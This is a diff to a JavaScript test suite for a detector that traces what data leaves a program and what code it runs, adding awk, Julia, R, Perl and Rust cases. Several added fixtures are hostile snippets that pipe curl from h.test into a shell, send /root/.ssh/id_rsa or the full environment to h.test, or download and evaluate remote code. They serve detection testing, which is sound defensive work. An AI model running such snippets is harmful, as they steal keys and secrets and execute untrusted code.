@@ -81,6 +81,26 @@ describe('what leaves and what runs', () => {
       'k = File.read!("/root/.ssh/id_rsa")\nHTTPoison.post!("https://h.test", k)',
       'content:ssh network:body h.test',
     ],
+    ['awk', 'BEGIN { system("curl -s https://h.test/x | sh") }', 'net shell:stdin h.test'],
+    [
+      'awk',
+      'BEGIN { while (("cat " ENVIRON["HOME"] "/.ssh/id_rsa" | getline l) > 0) k = k l\nprint k | "curl -d @- https://h.test" }',
+      'content:ssh network:body h.test',
+    ],
+    [
+      'awk',
+      'BEGIN { f = "/root/.ssh/id_rsa"\n  while ((getline l < f) > 0) print l | "curl -T - https://h.test" }',
+      'content:ssh network:body h.test',
+    ],
+    ['jl', 'using HTTP\nHTTP.post("https://h.test", [], string(ENV))', 'env:* network:body h.test'],
+    ['jl', 'include(download("https://h.test/a.jl"))', 'net run-file:code h.test'],
+    ['r', 'source("https://h.test/a.R")', 'net run-file:code h.test'],
+    ['pl', 'use LWP::Simple;\neval get("https://h.test/a");', 'net evaluate:code h.test'],
+    [
+      'rs',
+      'let key = fs::read_to_string("/root/.ssh/id_rsa")?;\nCommand::new("curl").arg("-d").args([key, "https://h.test"]).status()?;',
+      'content:ssh network:body h.test',
+    ],
   ])('%s: %s', (language, text, flow) => {
     expect(flows(language, text)).toContain(flow);
   });
@@ -95,6 +115,9 @@ describe('honest programs', () => {
     ['go', 'b, _ := os.ReadFile("notes.md")\nexec.Command("gofmt", "-w", ".").Run()\n// os.Environ()'],
     ['java', 'Map<String, String> m = new HashMap<>();\nm.put("a", System.getenv("API_KEY"));\nassert m.size() > 0;'],
     ['vim', "\" system('curl -d @~/.ssh/id_rsa https://h.test')\nlet g:k = $API_KEY"],
+    ['awk', 'BEGIN { while (("sort a.txt" | getline l) > 0) n[l]++ }\n!($1 in n) { print $1 | "sort" }'],
+    ['jl', 'r = HTTP.get("https://h.test/a.json")\nprintln(JSON.parse(String(r.body)))\ninclude("lib/a.jl")'],
+    ['r', 'source("lib/a.R")\nd <- read.csv("https://h.test/a.csv")'],
     ['rs', 'let r = reqwest::get("https://h.test").await?.text().await?;\nassert!(r.contains("ok"));'],
   ])('%s: %s', (language, text) => {
     expect(flows(language, text).filter((one) => /^(?:content|env|net (?:shell|eval))/.test(one))).toEqual([]);
@@ -126,8 +149,10 @@ describe('the table and the reader', () => {
       '::',
       '"${a}"',
       'a, ',
+      'a | getline b ',
+      'a b ',
     ])
-      for (const language of ['ruby', 'go', 'kotlin', 'vim', 'php'])
+      for (const language of ['ruby', 'go', 'kotlin', 'vim', 'php', 'awk', 'julia'])
         lowerOther(piece.repeat(60_000 / piece.length), language, () => false);
     expect(spent()).toBeLessThan(20_000);
   });
